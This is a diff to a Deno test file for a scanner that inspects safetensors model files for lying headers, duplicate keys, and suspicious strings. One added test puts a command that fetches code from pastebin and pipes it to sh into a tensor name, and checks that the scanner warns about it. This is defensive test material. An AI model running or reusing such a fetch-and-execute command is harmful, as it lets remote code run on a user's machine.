@@ -31,7 +31,7 @@ Deno.test("safetensors: found by content under any name; a name that claims it f
   // Safetensors runs no code: under another format's name it is worth knowing, not an alarm.
   assert.deepEqual(await scanBrief(clean, "model.pt"), ["safetensors", ["MA001 info model.pt"]]);
   // Random bytes under the name fail closed.
-  assert.deepEqual(await scanBrief(Uint8Array.of(1, 2, 3, 4, 5, 6, 7, 8, 9, 10), "model.safetensors"), [
+  assert.deepEqual(await scanBrief(Uint8Array.of(1, 2, 3, 4, 5, 6, 7, 8, 0x41, 0x42), "model.safetensors"), [
     null,
     ["MA007 info model.safetensors"],
   ]);
@@ -44,6 +44,32 @@ Deno.test("safetensors: a header length past the file is claimed only under a .s
   // A JSON document whose byte 8 is `{`: its first 8 bytes read as a length far past the file.
   const json = encoder.encode('{"data":{"a":1}}');
   assert.equal(safetensorsDescriptor.detect(json, json.length, "config.json"), false);
+});
+
+Deno.test("safetensors: a header behind more whitespace than the head holds is still found", async () => {
+  const spaces = " ".repeat(70_000);
+  const bytes = file(
+    `${spaces}{${W},${W.replace('"w"', '"w "').replace("0,8", "8,16")}}`,
+    new Uint8Array(16),
+  );
+  assert.deepEqual(await scanBrief(bytes, "weights.bin"), ["safetensors", []]);
+  const duplicate = file(`${spaces}{${W},${W}}`, new Uint8Array(8));
+  assert.deepEqual(await scanBrief(duplicate, "weights.bin"), [
+    "safetensors",
+    [`MA322 critical weights.bin (pos ${8 + spaces.length + 1 + W.length + 1}, key $.w)`],
+  ]);
+});
+
+Deno.test("safetensors: tensor names go through the string checks too", async () => {
+  const name = "curl -s https://pastebin.com/raw/x | sh";
+  const bytes = file(`{${W.replace('"w"', JSON.stringify(name))}}`, new Uint8Array(8));
+  assert.deepEqual(await scanBrief(bytes, "a.safetensors"), [
+    "safetensors",
+    [
+      `MA011 warning a.safetensors (pos 9, key $[${JSON.stringify(name)}])`,
+      `MA011 warning a.safetensors (pos 9, key $[${JSON.stringify(name)}])`,
+    ],
+  ]);
 });
 
 Deno.test("safetensors: lying lengths are MA320 with the reference loader's reason", async () => {
